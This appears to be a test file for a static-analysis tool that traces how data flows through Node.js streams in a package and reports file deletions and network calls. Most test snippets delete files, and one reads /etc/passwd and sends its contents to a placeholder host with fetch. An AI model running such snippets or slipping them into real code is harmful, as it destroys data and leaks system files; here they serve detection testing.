import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { symbolicUses } from '../../../../test/symbolic-uses.ts';

/** Streams of a package, and what comes of what goes through them. */
const CASES: readonly { readonly when: string; readonly code: string; readonly says: readonly string[] }[] = [
  {
    when: 'a stream is written to that is made of options',
    code: `const { Readable, Writable } = require('node:stream'); Readable.from(['at']).pipe(new Writable({ write(path, _, done) { require('fs').rmSync(path); done(); } }));`,
    says: ['import fs.rmSync(at)'],
  },
  {
    when: 'a class changes what goes through it, and says something at the end',
    code: `const { Transform } = require('stream'); class Own extends Transform { constructor(end) { super(); this.end_ = end; } _transform(one, _, done) { done(null, '/tmp/' + one); } _flush(done) { this.push(this.end_); done(); } } const own = new Own('last'); own.on('data', path => require('fs').unlinkSync(path)); own.write('first'); own.end(); own.on('end', () => require('fs').rmdirSync('at'));`,
    says: ['import fs.unlinkSync(/tmp/first)', 'import fs.unlinkSync(last)', 'import fs.rmdirSync(at)'],
  },
  {
    when: 'a class of before there were classes',
    code: `const { Transform } = require('stream'); function Own(options) { if (!(this instanceof Own)) return new Own(options); Transform.call(this, options); } require('util').inherits(Own, Transform); Own.prototype._transform = function (one, _, done) { require('fs').rmSync(one); done(); }; Own().write('at');`,
    says: ['import fs.rmSync(at)'],
  },
  {
    when: 'a stream is asked for all that it has',
    code: `class Own extends require('stream').Readable { constructor() { super({ objectMode: true }); this.left = ['a', 'b']; } _read() { this.push(this.left.shift() ?? null); } } (async () => { for await (const one of new Own()) require('fs').rmSync(one); })();`,
    says: ['import fs.rmSync(a)', 'import fs.rmSync(b)'],
  },
  {
    when: 'what a file holds goes through a stream of the package into a request',
    code: `const { PassThrough } = require('stream'); require('fs').createReadStream('/etc/passwd').pipe(new PassThrough()).on('data', one => fetch('https://keep.invalid', { body: one }));`,
    says: ['import fs.createReadStream(/etc/passwd)', 'import fetch(https://keep.invalid, {body: ?}) from fs.createReadStream'],
  },
  {
    when: 'a pipeline has a generator in it',
    code: `import { pipeline } from 'node:stream/promises'; import fs from 'node:fs'; await pipeline(['a'], async function* (source) { for await (const one of source) yield one + 'b'; }, async source => { for await (const path of source) fs.rmSync(path); });`,
    says: ['import fs.rmSync(ab)'],
  },
  {
    when: 'a pipeline says when it is done',
    code: `const { pipeline, PassThrough } = require('stream'); pipeline(require('fs').createReadStream('from'), new PassThrough(), require('fs').createWriteStream('to'), () => require('fs').rmSync('at'));`,
    says: [
      'import fs.createReadStream(from)',
      'import fs.createWriteStream(to)',
      'import stream.Readable().pipe(?) from fs.createWriteStream',
      'import fs.rmSync(at)',
    ],
  },
  {
    when: 'a stream is read from as it comes',
    code: `const one = require('stream').Readable.from(['at', 'there']); one.on('readable', () => { let path; while ((path = one.read()) !== null) require('fs').rmSync(path); });`,
    says: ['import fs.rmSync(at)', 'import fs.rmSync(there)'],
  },
  {
    when: 'a stream never ends',
    code: `const { Readable } = require('stream'); new Readable({ read() { this.push('at'); } }).on('data', path => require('fs').rmSync(path));`,
    says: ['import fs.rmSync(at)'],
  },
  {
    when: 'a stream is piped into itself',
    code: `const one = new (require('stream').PassThrough)(); one.pipe(one); one.write('at'); one.on('data', path => require('fs').rmSync(path));`,
    says: ['import fs.rmSync(at)'],
  },
  {
    when: 'somebody listens when it is over already, to what did not happen, and to what others may do',
    code: `const { Readable, Writable, finished } = require('stream'); const rm = require('fs').rmSync; Readable.from(['a']).pipe(new Writable({ write(_, __, done) { done(); } })).on('finish', () => rm('/a')); const one = new Writable({ write(_, __, done) { done(); } }); one.end(); one.on('finish', () => rm('/b')); finished(one, () => rm('/c')); one.on('error', () => rm('/d'));`,
    says: ['import fs.rmSync(/a)', 'import fs.rmSync(/b)', 'import fs.rmSync(/c)', 'import fs.rmSync(/d)'],
  },
  {
    when: 'something is done as a stream is made, and as it is destroyed',
    code: `const { Writable } = require('stream'); const rm = require('fs').rmSync; new Writable({ construct(done) { rm('/a'); done(); }, destroy(_, done) { rm('/b'); done(); } }).destroy();`,
    says: ['import fs.rmSync(/a)', 'import fs.rmSync(/b)'],
  },
  {
    when: 'a pipeline fails',
    code: `const { pipeline, Transform } = require('stream'); pipeline(['a'], new Transform({ transform(_, __, done) { done(new Error('x')); } }), error => { if (error) require('fs').rmSync('at'); });`,
    says: ['import fs.rmSync(at)'],
  },
  {
    when: 'two sources go into one, of which the first does not end it',
    code: `const { Readable, Writable } = require('stream'); const out = new Writable({ write(path, _, done) { require('fs').rmSync(path); done(); } }); Readable.from(['a']).pipe(out, { end: false }); Readable.from(['b']).pipe(out);`,
    says: ['import fs.rmSync(a)', 'import fs.rmSync(b)'],
  },
];

describe('the streams of a package', () => {
  for (const { when, code, says } of CASES)
    it(`are gone through when ${when}`, () => {
      assert.deepEqual(symbolicUses({ 'index.js': code }), says);
    });
});
